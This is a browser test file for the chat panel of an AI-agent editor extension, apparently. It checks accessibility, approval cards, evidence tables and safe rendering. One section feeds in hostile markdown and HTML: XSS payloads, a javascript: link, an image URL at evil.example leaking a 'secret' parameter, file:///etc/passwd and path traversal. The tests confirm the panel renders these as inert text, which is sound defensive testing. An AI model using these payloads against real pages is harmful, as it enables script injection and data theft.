import { AxeBuilder } from '@axe-core/playwright';
import * as fc from 'fast-check';
import type { Browser, Locator } from 'playwright-core';
import { afterAll, afterEach, beforeAll, describe, expect, test } from 'vitest';
import type { ApprovalRequest } from '../../src/agent/approval.ts';
import type { ChatEvent } from '../../src/chat/chat-state.ts';
import type { ContextChip, HostMessage, WebviewMessage } from '../../src/chat/messages.ts';
import {
  hourly,
  messagePreview,
  messageRequest,
  ticketRequest,
  troubled,
  troubledEnd,
  untilEnd,
  untilMessage,
  untilTicket,
} from '../src/chat/recorded-run.ts';
import { launchBrowser } from './browser.ts';
import { openStage, startPanelSite, type Panel, type PanelSite, type PanelStage, type Theme } from './panel.ts';

let browser: Browser;
let site: PanelSite;
let stage: PanelStage;

beforeAll(async () => {
  browser = await launchBrowser();
  site = await startPanelSite();
  stage = await openStage(browser, site);
});

afterEach(() => {
  stage.check();
});

afterAll(async () => {
  await browser?.close();
  await site?.close();
});

const connections: HostMessage = {
  type: 'connections',
  model: { label: 'Claude Opus 5.5', ready: true },
  servers: [
    { id: 'postgres', title: 'PostgreSQL', state: 'ready', detail: 'shop on db.internal' },
    { id: 'jira', title: 'Jira', state: 'failed', detail: 'the token was refused' },
    { id: 'slack', title: 'Slack', state: 'not-configured', detail: '' },
  ],
};

const chips: readonly ContextChip[] = [
  {
    id: 'selection',
    kind: 'selection',
    label: 'tax.ts:38-44',
    detail: 'src/tax.ts, lines 38 to 44',
    suggested: true,
  },
  { id: 'file', kind: 'file', label: 'tax.ts', detail: 'src/tax.ts', suggested: false },
  { id: 'problems', kind: 'diagnostics', label: '3 problems', detail: '3 problems in src/tax.ts', suggested: false },
];

const card = { requestId: ticketRequest.id, sha256: ticketRequest.sha256 };

async function open(theme: Theme = 'dark', width = 400): Promise<Panel> {
  return stage.open(theme, width);
}

const otherEnds = (['cancelled', 'inconclusive', 'budget', 'refused', 'denied'] as const).flatMap(
  (reason): readonly ChatEvent[] => [
    { type: 'run-started', session: 'session-1', run: reason, time: '', model: 'm', prompt: `A run that is ${reason}` },
    { type: 'run-finished', reason, message: 'Why it ended, and what can be done.', writeNotGranted: false },
  ],
);

/** A panel in which these events have happened, and what it sent because of them is forgotten. */
async function after(...events: readonly ChatEvent[]): Promise<Panel> {
  const panel = await open();
  await panel.post(panel.projection.apply(events));
  await panel.sent();
  return panel;
}

function saying(text: string): readonly ChatEvent[] {
  return [
    { type: 'run-started', session: 's', run: 'r', time: '', model: 'm', prompt: 'Hello' },
    { type: 'text-delta', text },
  ];
}

function button({ page }: Panel, name: string): Locator {
  return page.getByRole('button', { name, exact: true });
}

function composer({ page }: Panel): Locator {
  return page.getByRole('textbox', { name: 'Ask Switchboard' });
}

/** The default of a second is short on a machine that has much else to do. */
function eventually<Value>(read: () => Value) {
  return expect.poll(read, { timeout: 60_000 });
}

async function violations({ page }: Panel): Promise<readonly string[]> {
  // One page without frames: what axe does for those, and to tell of all that is well, takes seven times as long.
  const { violations: found } = await new AxeBuilder({ page })
    .setLegacyMode()
    .options({ resultTypes: ['violations'] })
    .analyze();
  return found.flatMap(({ id, nodes }) => nodes.map(({ html }) => `${id}: ${html}`));
}

describe.each<[Theme, number]>([
  ['light', 300],
  ['dark', 400],
  ['high-contrast', 700],
  ['high-contrast-light', 500],
])('in %s, %d px wide', (theme, width) => {
  test('every state is accessible, and nothing but tables and code scrolls sideways', async () => {
    const panel = await open(theme, width);
    const { page, projection } = panel;
    const check = async (state: string): Promise<void> => {
      await panel.picture(`${state}-${theme}-${width}`);
      expect(await violations(panel), state).toEqual([]);
      const [inner, outer] = await Promise.all(
        ['scrollWidth', 'clientWidth'].map((key) => page.evaluate(`document.querySelector('.transcript').${key}`)),
      );
      expect(inner, `${state} is wider than the view`).toBe(outer);
    };
    await panel.post(connections, { type: 'context', chips });
    await check('empty');
    await panel.post(projection.apply(untilTicket));
    await check('card');
    await button(panel, 'Edit').click();
    await check('card-edit');
    await button(panel, 'Raw').click();
    await check('card-raw');
    await panel.post(projection.apply(untilMessage));
    await check('message');
    for (const line of await page.locator('.call-toggle').all()) await line.click();
    await page.locator('.prompt').first().scrollIntoViewIfNeeded();
    await check('calls');
    await panel.post(projection.apply([...untilEnd, ...troubled]));
    await check('retry');
    await panel.post(projection.apply([troubledEnd]));
    // The view follows after an answered card; only where it does not is there a way down.
    const newest = button(panel, 'Newest');
    if (await newest.isVisible()) await newest.click();
    await check('failed');
    await panel.post(projection.apply(otherEnds));
    await check('ends');
  });
});

describe('the composer', () => {
  test('Enter sends with the suggested context, Shift+Enter is a new line, an empty prompt is not sent', async () => {
    const panel = await open();
    await panel.post({ type: 'context', chips });
    await panel.sent();
    await composer(panel).press('Enter');
    await composer(panel).pressSequentially('Why?');
    await composer(panel).press('Shift+Enter');
    await composer(panel).pressSequentially('Since when?');
    await composer(panel).press('Enter');
    expect(await panel.sent()).toEqual([{ type: 'send', text: 'Why?\nSince when?', chips: ['selection'] }]);
    expect(await composer(panel).inputValue()).toBe('');
  });

  test('context is put on and taken off by its chip', async () => {
    const panel = await open();
    await panel.post({ type: 'context', chips });
    await panel.sent();
    await panel.page.getByRole('button', { name: 'tax.ts:38-44' }).click();
    await panel.page.getByRole('button', { name: '3 problems' }).click();
    await composer(panel).fill('Look');
    await composer(panel).press('Enter');
    expect(await panel.sent()).toEqual([{ type: 'send', text: 'Look', chips: ['problems'] }]);
  });

  test('Escape and the button stop a run; while it runs nothing is sent', async () => {
    const panel = await after(...saying('Working'));
    await composer(panel).fill('And then?');
    await composer(panel).press('Enter');
    expect(await panel.page.locator('.composer').innerText()).toContain('A run is going on: Escape stops it.');
    await composer(panel).press('Escape');
    await button(panel, 'Stop').click();
    expect(await panel.sent()).toEqual([{ type: 'stop' }, { type: 'stop' }]);
    expect(await composer(panel).inputValue()).toBe('And then?');
  });

  test('a draft outlives the page, and what the host adds to it waits to be sent', async () => {
    const panel = await open();
    await composer(panel).fill('Half a thought');
    await panel.page.reload();
    await eventually(() => composer(panel).inputValue()).toBe('Half a thought');
    await panel.post({ type: 'insert-prompt', text: 'Look at this selection' });
    expect(await composer(panel).inputValue()).toBe('Half a thought\nLook at this selection');
    expect(await panel.sent()).toEqual([{ type: 'ready' }]);
  });

  test('the jobs and the connections of an empty chat lead on', async () => {
    const panel = await open();
    await panel.post(connections);
    await panel.sent();
    for (const name of [/^Investigate Failed Orders/u, /^File Jira Bug/u, /^Set Up Conn/u, /^Test Conn/u]) {
      await panel.page.getByRole('button', { name }).click();
    }
    expect(await panel.sent()).toEqual(
      ['investigateFailedOrders', 'fileJiraBugFromSelection', 'setUpConnections', 'testConnections'].map((name) => ({
        type: 'run-command',
        command: `switchboard.${name}`,
      })),
    );
    await panel.page.getByRole('button', { name: /^Ask About Live Data/u }).click();
    expect(await composer(panel).inputValue()).toContain('stuck');
  });
});

describe('an approval', () => {
  test('takes the keyboard, but no stray key approves', async () => {
    const panel = await after(...untilTicket);
    for (const key of ['Enter', 'Space', 'y']) await panel.page.keyboard.press(key);
    expect(await panel.sent()).toEqual([]);
    await panel.page.keyboard.press('Control+Enter');
    expect(await panel.sent()).toEqual([{ type: 'approve', ...card, scope: 'once' }]);
  });

  test('does not take the keyboard from a person who is writing', async () => {
    const panel = await open();
    await composer(panel).pressSequentially('I am wri');
    await panel.post(panel.projection.apply(untilTicket));
    await panel.page.keyboard.type('ting');
    expect(await composer(panel).inputValue()).toBe('I am writing');
  });

  test('is spoken at once', async () => {
    const { page } = await after(...untilTicket);
    expect(await page.locator('[aria-live=assertive]').textContent()).toBe(
      'Approval needed: Create Jira ticket, Engineering (ENG).',
    );
  });

  test.each<[string, WebviewMessage]>([
    ['Approve', { type: 'approve', ...card, scope: 'once' }],
    ['Approve for This Run', { type: 'approve', ...card, scope: 'run' }],
    ['Always Here', { type: 'approve', ...card, scope: 'always' }],
    [
      'Use ENG-41 Instead',
      { type: 'deny', ...card, reason: 'ENG-41 is about the same: do not make another one, add to ENG-41 instead.' },
    ],
  ])('%s answers for the card that is shown, once', async (name, message) => {
    const panel = await after(...untilTicket);
    await button(panel, name).dblclick();
    await panel.page.keyboard.press('Control+Enter');
    expect(await panel.sent()).toEqual([message]);
  });

  test('is denied with a reason, by keyboard alone; Escape takes only the reason back', async () => {
    const panel = await after(...untilTicket);
    const { page } = panel;
    await button(panel, 'Deny…').focus();
    await page.keyboard.press('Enter');
    await page.keyboard.press('Escape');
    await button(panel, 'Deny…').focus();
    await page.keyboard.press('Enter');
    await page.keyboard.type('Wrong project');
    await page.keyboard.press('Enter');
    expect(await panel.sent()).toEqual([{ type: 'deny', ...card, reason: 'Wrong project' }]);
  });

  test('that was edited is previewed again before it can be approved', async () => {
    const panel = await after(...untilTicket);
    const { page, projection } = panel;
    await button(panel, 'Edit').click();
    await page.getByRole('textbox', { name: 'Summary' }).fill('Orders to PR fail');
    await page.getByRole('textbox', { name: 'Labels' }).fill('orders,  tax , ');
    await eventually(() => button(panel, 'Approve').count()).toBe(0);
    await button(panel, 'Update Preview').click();
    const revised = { ...ticketRequest.arguments, summary: 'Orders to PR fail', labels: ['orders', 'tax'] };
    expect(await panel.sent()).toEqual([{ type: 'revise', ...card, arguments: revised }]);
    const request = { ...ticketRequest, id: 'approval-1b', sha256: 'd'.repeat(64), arguments: revised };
    await panel.post(projection.apply([{ type: 'approval-requested', ...request }]));
    await button(panel, 'Approve').click();
    expect(await panel.sent()).toEqual([
      { type: 'approve', requestId: 'approval-1b', sha256: 'd'.repeat(64), scope: 'once' },
    ]);
  });

  test('edits that are taken back leave the card as it was', async () => {
    const panel = await after(...untilTicket);
    await button(panel, 'Edit').click();
    const priority = panel.page.getByRole('textbox', { name: 'Priority' });
    await priority.fill('Low');
    await priority.fill('High');
    await button(panel, 'Approve').click();
    expect(await panel.sent()).toEqual([{ type: 'approve', ...card, scope: 'once' }]);
  });

  test('of a tool without preview is a form made from its schema, and a wrong value is named', async () => {
    const tool = {
      ...ticketRequest.tool,
      title: 'Do something',
      preview: false,
      inputSchema: { type: 'object', properties: { retries: { type: 'integer' }, note: { type: 'string' } } },
    };
    const request = { ...ticketRequest, tool, preview: undefined, arguments: { retries: 3 } };
    const panel = await after(...untilTicket.slice(0, -1), { type: 'approval-requested', ...request });
    await button(panel, 'Edit').click();
    await panel.page.getByRole('textbox', { name: 'retries' }).fill('many');
    await button(panel, 'Update Preview').click();
    expect(await panel.page.getByRole('alert').textContent()).toBe('retries must be a number, like 5.');
    await panel.page.getByRole('textbox', { name: 'retries' }).fill('4');
    await panel.page.getByRole('textbox', { name: 'note' }).fill('x');
    await button(panel, 'Update Preview').click();
    expect(await panel.sent()).toEqual([{ type: 'revise', ...card, arguments: { retries: 4, note: 'x' } }]);
  });

  test('keeps what was edited when the state comes anew, and leaves the keyboard to the composer when it is gone', async () => {
    const panel = await after(...untilTicket);
    const { page, projection } = panel;
    await button(panel, 'Edit').click();
    await page.getByRole('textbox', { name: 'Priority' }).fill('Low');
    await panel.post(projection.snapshot());
    await page.keyboard.press('Escape');
    expect(await panel.sent()).toEqual([]);
    expect(await page.getByRole('textbox', { name: 'Priority' }).inputValue()).toBe('Low');
    await page.keyboard.press('Control+Enter');
    expect(await panel.sent()).toMatchObject([{ type: 'revise', arguments: { priority: 'Low' } }]);
    await panel.post(projection.apply(untilMessage.slice(0, -2)));
    await page.keyboard.type('Next');
    expect(await composer(panel).inputValue()).toBe('Next');
  });

  test('still waits after the page was reloaded', async () => {
    const panel = await after(...untilTicket);
    await panel.page.reload();
    await panel.page.waitForSelector('.composer');
    expect(await panel.sent()).toEqual([{ type: 'ready' }]);
    await panel.post(panel.projection.snapshot());
    await button(panel, 'Approve').click();
    expect(await panel.sent()).toEqual([{ type: 'approve', ...card, scope: 'once' }]);
  });

  test('shows who is reached, and characters that hide', async () => {
    const preview = { ...messagePreview, body: 'Pay \u202Eevil\u202C now\u{E0041}' };
    const request = { ...messageRequest, preview };
    const { page } = await after(...untilTicket, ...untilMessage.slice(0, -1), approval(request));
    const text = await page.locator('approval-card').innerText();
    expect(text).toContain('214 members, 3 from outside the company');
    expect(text).toContain('Notifies @here');
    expect(text).toContain('Pay [U+202E]evil[U+202C] now[U+E0041]');
  });
});

describe('what was read and written', () => {
  test('an evidence id in the answer opens its table and puts the keyboard there', async () => {
    const panel = await after(...untilTicket, ...untilMessage, ...untilEnd);
    await button(panel, 'E2').first().click();
    await eventually(() => panel.page.evaluate('document.activeElement.getAttribute("aria-label")')).toBe(
      'Evidence E2',
    );
  });

  test('a table sorts up, down and back, numbers as numbers', async () => {
    const panel = await after(...untilTicket, ...untilMessage, ...untilEnd);
    await button(panel, 'E2').first().click();
    const table = panel.page.getByRole('region', { name: 'Evidence E2' });
    const first = async (): Promise<string> => table.locator('tbody tr').first().locator('td').nth(1).innerText();
    const heading = table.getByRole('button', { name: 'orders', exact: true });
    const seen = [await first()];
    for (let click = 0; click < 3; click += 1) {
      await heading.click();
      seen.push(await first());
    }
    expect(seen).toEqual(['40', '40', '97', '40']);
  });

  test('a chart is loaded and drawn when it is asked for, under the same content policy', async () => {
    const panel = await after(...untilTicket, ...untilMessage, ...untilEnd);
    await button(panel, 'E2').first().click();
    expect(await panel.page.locator('evidence-chart').count()).toBe(0);
    await button(panel, 'Chart of E2').click();
    await panel.page.locator('.chart svg').waitFor();
    expect(panel.requests().map((address) => new URL(address).pathname)).toEqual(['/chart.js']);
    expect(await panel.page.locator('.legend li').allInnerTexts()).toEqual(['orders', 'failed']);
    await panel.picture('chart-dark-400');
    await panel.post();
    await button(panel, 'Chart of E2').click();
    await eventually(() => panel.page.locator('.chart').count()).toBe(0);
  });

  test('queries and tables are opened and copied by the host', async () => {
    const panel = await after(...untilTicket, ...untilMessage, ...untilEnd);
    await button(panel, 'E1').first().click();
    for (const name of ['Open E1 in editor', 'Copy E1 as CSV', 'Open query in editor']) {
      await panel.page.getByLabel(name).first().click();
    }
    expect(await panel.sent()).toEqual([
      { type: 'open-evidence', id: 'E1' },
      { type: 'copy-evidence', id: 'E1' },
      { type: 'open-query', callId: 'call-1' },
    ]);
  });

  test('links and places in the code are opened by the host', async () => {
    const panel = await after(...untilTicket, ...untilMessage, ...untilEnd);
    for (const name of ['the runbook', 'src/tax.ts:41', 'ENG-57']) {
      await panel.page.getByRole('link', { name, exact: true }).first().click();
    }
    expect(await panel.sent()).toEqual([
      { type: 'open-link', url: 'https://wiki.example.com/orders' },
      { type: 'open-file', path: 'src/tax.ts', line: 41 },
      { type: 'open-link', url: 'https://shop.atlassian.net/browse/ENG-57' },
    ]);
  });

  test('a failure says what can be done, and a failed run can be tried again', async () => {
    const panel = await after(...troubled, troubledEnd);
    await panel.page.locator('.call-toggle').nth(1).click();
    await button(panel, 'Set Up Connections').click();
    await button(panel, 'Try Again').click();
    expect(await panel.sent()).toEqual([
      { type: 'run-command', command: 'switchboard.setUpConnections' },
      { type: 'resume', run: 'run-2' },
    ]);
  });

  test('a prompt that nothing could answer leads to what is missing', async () => {
    const message = 'No language model is connected.';
    const rejected = { type: 'prompt-rejected', message, code: 'not_configured' } as const;
    const panel = await after({ type: 'prompt-sent', text: 'Why?', context: [] }, rejected);
    expect(await panel.page.locator('.run-end').innerText()).toContain(message);
    await button(panel, 'Set Up Connections').click();
    expect(await panel.sent()).toEqual([{ type: 'run-command', command: 'switchboard.setUpConnections' }]);
  });

  test('a retry counts down from the delay that was given', async () => {
    const delay = {
      type: 'retry-scheduled',
      reason: 'Claude is overloaded (529)',
      attempt: 2,
      delayMs: 600_000,
    } as const;
    const { page } = await after(...troubled, delay);
    const seconds = async (): Promise<number> => {
      const said = await page.locator('retry-notice').innerText();
      return Number(/overloaded \(529\)\. Trying again in (\d+) s\./u.exec(said)?.[1]);
    };
    const first = await seconds();
    expect(first).toBeGreaterThan(300);
    expect(first).toBeLessThanOrEqual(600);
    await eventually(seconds).toBeLessThan(first);
  });
});

describe('a run that stopped', () => {
  const stopped = (reason: 'budget' | 'cancelled' | 'failed', code?: string): readonly ChatEvent[] => [
    { type: 'run-started', session: 's', run: 'r7', time: '', model: 'm', prompt: 'Investigate' },
    { type: 'evidence-added', callId: 'c', evidence: hourly },
    { type: 'run-finished', reason, message: 'Found so far: E2 (Query database).', writeNotGranted: false, code },
  ];

  test.each([
    ['budget', 'Continue'],
    ['cancelled', 'Continue'],
    ['failed', 'Try Again'],
  ] as const)('by %s goes on as that run, by the button %s', async (reason, name) => {
    const panel = await after(...stopped(reason));
    await button(panel, name).click();
    expect(await panel.sent()).toEqual([{ type: 'resume', run: 'r7' }]);
  });

  test('goes on without its prompt being shown a second time', async () => {
    const start = {
      type: 'run-started',
      session: 's',
      run: 'r8',
      time: '',
      model: 'm',
      prompt: 'Investigate',
    } as const;
    const panel = await after(...stopped('budget'), { ...start, resumed: true });
    expect(await panel.page.locator('.prompt').count()).toBe(1);
    await panel.page.getByRole('heading', { name: 'Continued' }).waitFor();
    expect(await button(panel, 'Continue').count()).toBe(0);
  });

  test('names its evidence as links', async () => {
    const panel = await after(...stopped('budget'));
    expect(await panel.page.locator('.run-end').getByRole('button', { name: 'E2', exact: true }).count()).toBe(1);
  });

  test('with an outcome that is not known is not simply tried again', async () => {
    const panel = await after(...stopped('failed', 'outcome_unknown'));
    expect(await panel.page.locator('.run-end').innerText()).toContain('Outcome unknown.');
    expect(await button(panel, 'Try Again').count()).toBe(0);
    await button(panel, 'Open Audit Log').click();
    expect(await panel.sent()).toEqual([{ type: 'run-command', command: 'switchboard.openAuditLog' }]);
  });
});

describe('the meter', () => {
  const forecast = { tokens: 45_000, cost: 0.12, runs: 3 };
  const start: ChatEvent = {
    type: 'run-started',
    session: 's',
    run: 'r',
    time: '',
    model: 'm',
    prompt: 'Investigate',
    runbook: { name: 'failed-orders', parameters: {} },
    forecast,
  };
  const usage = { turns: 3, toolCalls: 2, inputTokens: 40_000, cacheReadTokens: 0, outputTokens: 1_200, cost: 0.0613 };

  test('shows the forecast before, what was used of it during, and the session after a run', async () => {
    const panel = await after(start);
    const meter = panel.page.locator('.meter');
    const words = async (): Promise<string> => (await meter.innerText()).replaceAll(/\s+/gu, ' ');
    expect(await words()).toBe('~45k tokens · ~$0.12');
    expect(await meter.getAttribute('title')).toContain('the median of 3 runs of failed-orders');
    await panel.post(panel.projection.apply([{ type: 'usage-changed', usage }]));
    expect(await words()).toBe('41.2k of ~45k tokens · $0.06 of ~$0.12');
    await panel.post(
      panel.projection.apply([{ type: 'run-finished', reason: 'completed', message: 'Done.', writeNotGranted: false }]),
    );
    expect(await words()).toBe('41.2k tokens · $0.06');
  });

  test('a forecast is spoken when the run begins', async () => {
    const { page } = await after(start);
    expect(await page.locator('[aria-live=polite]').textContent()).toBe(
      'Working on it. It may use about 45k tokens, $0.12.',
    );
  });
});

describe('what strangers wrote', () => {
  const hostile = `<img src=x onerror="window.hacked = 1"> <script>window.hacked = 2</script>

![pixel](https://evil.example/p.png?d=secret) [run](command:workbench.action.quit) [js](javascript:window.hacked=3)
[data](data:text/html,<script>1</script>) [file](file:///etc/passwd) [up](../../../etc/passwd.txt)
[https://bank.example](https://evil.example/login) https://user:pass@evil.example/ <https://ok.example/>`;

  /** What hostile documents are put together from. */
  const pieces = [
    '<script>window.hacked=1</script>',
    '<img src=x onerror=alert(1)>',
    '<svg/onload=alert(1)>',
    '<a href="javascript:1">',
    '</main>',
    '<!--',
    ']]>',
    '[a](javascript:alert(1))',
    '[b](command:x)',
    '![c](data:image/svg+xml,<svg/>)',
    '[d](vscode://x)',
    '[e]: x',
    '<https://ok.example>',
    '`',
    '```html\n',
    '| a |\n| - |\n',
    '> ',
    '- ',
    '1. ',
    '# ',
    '\n',
    '\n\n',
    '**',
    '_',
    '\u202E',
    '&lt;b&gt;',
    '&#x6A;avascript:',
    'E1',
    '${alert(1)}',
    '\\',
  ];

  const elements =
    'a blockquote br button code div em h2 h3 h4 hr li ol p pre s span strong table tbody td th thead tr ul'.split(' ');

  /** Names of elements, and whatever attribute or address is none that we draw. */
  const whatIsDrawn = `[...new Set([...document.querySelectorAll('markdown-text *, .prompt *')].flatMap((node) => [
    node.localName,
    ...[...node.attributes].filter(({ name }) => /^on|^style$|^src/.test(name)).map(({ name }) => 'attribute ' + name),
    ...(node.localName === 'a' && !/^(?:https?:|#)/.test(node.getAttribute('href')) ? ['address ' + node.href] : []),
  ]))]`;

  test('is text: no element of it, no request for it, no dangerous address', async () => {
    const panel = await open();
    const { page } = panel;
    const request = {
      ...ticketRequest,
      preview: { ...messagePreview, title: hostile, body: hostile, raw: hostile, warnings: [hostile] },
    };
    await panel.post(panel.projection.apply([...untilTicket, ...saying(hostile), approval(request)]));
    expect(await page.evaluate('window.hacked')).toBeUndefined();
    expect(await page.locator('main img, main script, main iframe, main object, main style').count()).toBe(0);
    expect(new Set(await addressesOf(page.locator('main a')))).toEqual(
      new Set([
        'https://evil.example/p.png?d=secret',
        'https://evil.example/login',
        'https://user/',
        'https://ok.example/',
      ]),
    );
    expect(panel.requests()).toEqual([]);
    expect(await page.locator('markdown-text').first().innerText()).toContain('https://bank.example (evil.example)');
  });

  test('is nothing but these elements, whatever it is', async () => {
    const documents = fc.sample(fc.array(fc.constantFrom(...pieces), { maxLength: 80 }), { numRuns: 40, seed: 2026 });
    const events = documents.map((parts, index): ChatEvent[] => [
      { type: 'run-started', session: 's', run: `r${index}`, time: '', model: 'm', prompt: parts.join(' ') },
      { type: 'text-delta', text: parts.join('') },
    ]);
    const panel = await after(...events.flat());
    const found: unknown = await panel.page.evaluate(whatIsDrawn);
    expect(found).toEqual(expect.arrayContaining(['a', 'blockquote', 'pre', 'table', 'button', 'code']));
    expect(elements).toEqual(expect.arrayContaining(Array.isArray(found) ? found : ['no list']));
    expect(panel.requests()).toEqual([]);
    expect(await panel.page.evaluate('window.hacked')).toBeUndefined();
  });

  test('reads in the direction of its script, and cannot turn what stands around it', async () => {
    const { page } = await after(...saying('فشلت الطلبات\n\n> אחד\n\nPay \u202Eevil\u202C `x\u2066y`\n\n- one'));
    const directions = page
      .locator('.markdown > *')
      .evaluateAll((nodes) => nodes.map((node) => getComputedStyle(node).direction));
    expect(await directions).toEqual(['rtl', 'rtl', 'ltr', 'ltr']);
    expect(await page.locator('.markdown').innerText()).toContain('Pay [U+202E]evil[U+202C] x[U+2066]y');
  });

  test('may be named like a part of JavaScript itself', async () => {
    const name = 'constructor';
    const panel = await after(
      ...saying('Calling'),
      {
        type: 'tool-call-proposed',
        callId: name,
        tool: name,
        server: name,
        title: name,
        risk: 'read',
        arguments: { [name]: name },
      },
      {
        type: 'tool-call-finished',
        callId: name,
        outcome: 'failed',
        durationMs: 1,
        summary: name,
        failure: { code: name, message: name, retryable: false },
      },
    );
    await panel.page.locator('.call-toggle').click();
    expect(await panel.page.locator('.failure').innerText()).toContain(name);
    await panel.post();
  });

  test('cannot widen the view: endless words and wide tables stay inside', async () => {
    const word = 'x'.repeat(5000);
    const wide = `| ${Array.from({ length: 40 }, (_, index) => `column ${index}`).join(' | ')} |`;
    const rule = `|${' --- |'.repeat(40)}`;
    const { page } = await after(
      ...saying(`${word}\n\n# ${word}\n\n> ${word}\n\n- ${word}\n\n\`${word}\`\n\n${wide}\n${rule}\n${wide}\n`),
    );
    expect(await page.evaluate('document.querySelector(".transcript").scrollWidth')).toBe(400);
  });
});

describe('the projection', () => {
  test('text that streams in leaves what stands before it untouched', async () => {
    const panel = await after(...saying('First paragraph.\n\n```sql\nSELECT 1;\n```\n\n| a |\n| - |\n| 1 |\n\nLast'));
    const { page, projection } = panel;
    await page.evaluate(`for (const node of document.querySelectorAll('.markdown *')) node.kept = true`);
    for (const text of [' words', ' and **bold', '** and\n\n- a', '\n- b\n\n1. c']) {
      await panel.post(projection.apply([{ type: 'text-delta', text }]));
    }
    const kept = `['.markdown > p', '.markdown pre', '.markdown table td'].map((part) => document.querySelector(part).kept)`;
    expect(await page.evaluate(kept)).toEqual([true, true, true]);
    expect(await page.locator('.markdown').innerText()).toMatch(/Last words and bold and\s+a\s+b\s+c/u);
  });

  test('shows nothing before the host has told what there is', async () => {
    const panel = await after(...saying('Hello'));
    await panel.page.reload();
    await panel.page.waitForSelector('.composer');
    await panel.post();
    expect(await panel.page.locator('.empty, run-view').count()).toBe(0);
    await panel.post(panel.projection.snapshot());
    expect(await panel.page.locator('run-view').count()).toBe(1);
  });

  test('a message in no known shape changes nothing', async () => {
    const panel = await after(...saying('Hello'));
    const odd = [null, 'state', [], {}, { type: 'constructor' }, { type: 'state' }, { type: 'state', state: null }];
    const more = [
      { type: 'events', events: 5, sequence: 9 },
      { type: 'events', events: [null], sequence: 3 },
    ];
    const others = ['context', 'connections', 'insert-prompt', 'notice', 'focus'].map((type) => ({ type }));
    await panel.page.evaluate(
      `for (const message of ${JSON.stringify([...odd, ...more, ...others])}) window.postMessage(message, '*')`,
    );
    await panel.post(panel.projection.apply([{ type: 'text-delta', text: ' again' }]));
    expect(await panel.page.locator('.markdown').innerText()).toBe('Hello again');
    expect(await panel.page.locator('.bar').count()).toBe(0);
    expect(await panel.sent()).toEqual([]);
  });

  test('a session that is opened stands at its end', async () => {
    const panel = await open();
    await panel.post(panel.projection.reset([...untilTicket, ...untilMessage, ...untilEnd]));
    const below = `(({ scrollHeight, scrollTop, clientHeight }) => scrollHeight - scrollTop - clientHeight)(document.querySelector('.transcript'))`;
    expect(await panel.page.evaluate(`document.querySelector('.transcript').scrollTop > 0`)).toBe(true);
    await eventually(() => panel.page.evaluate(below)).toBeLessThan(2);
  });

  test('a missed message is noticed, and the whole state asked for again', async () => {
    const panel = await after(...saying('One'));
    panel.projection.apply([{ type: 'text-delta', text: ' two' }]);
    await panel.post(panel.projection.apply([{ type: 'text-delta', text: ' three' }]));
    expect(await panel.sent()).toEqual([{ type: 'ready' }]);
    await panel.post(panel.projection.snapshot());
    expect(await panel.page.locator('.markdown').innerText()).toBe('One two three');
  });

  test('follows the newest text until the person scrolls up, and not then', async () => {
    const panel = await after(...saying('line\n\n'.repeat(60)));
    const { page, projection } = panel;
    const place = async (): Promise<unknown> => page.evaluate(`document.querySelector('.transcript').scrollTop`);
    const low = Number(await place());
    await panel.post(projection.apply([{ type: 'text-delta', text: 'more\n\n'.repeat(20) }]));
    expect(Number(await place())).toBeGreaterThan(low);
    await page.evaluate(`document.querySelector('.transcript').scrollTo(0, 10)`);
    await panel.post(projection.apply([{ type: 'text-delta', text: 'more\n\n'.repeat(20) }]));
    expect(await place()).toBe(10);
    await button(panel, 'Newest').click();
    await eventually(place).toBeGreaterThan(low);
  });

  test('a notice is shown until it is dismissed', async () => {
    const panel = await open();
    await panel.post({ type: 'notice', level: 'error', message: 'The session could not be saved: disk full.' });
    expect(await panel.page.locator('.bar').innerText()).toContain('disk full');
    await button(panel, 'Dismiss').click();
    await eventually(() => panel.page.locator('.bar').count()).toBe(0);
  });
});

function approval(request: ApprovalRequest): ChatEvent {
  return { type: 'approval-requested', ...request };
}

async function addressesOf(links: Locator): Promise<readonly (string | null)[]> {
  return Promise.all((await links.all()).map((link) => link.getAttribute('href')));
}
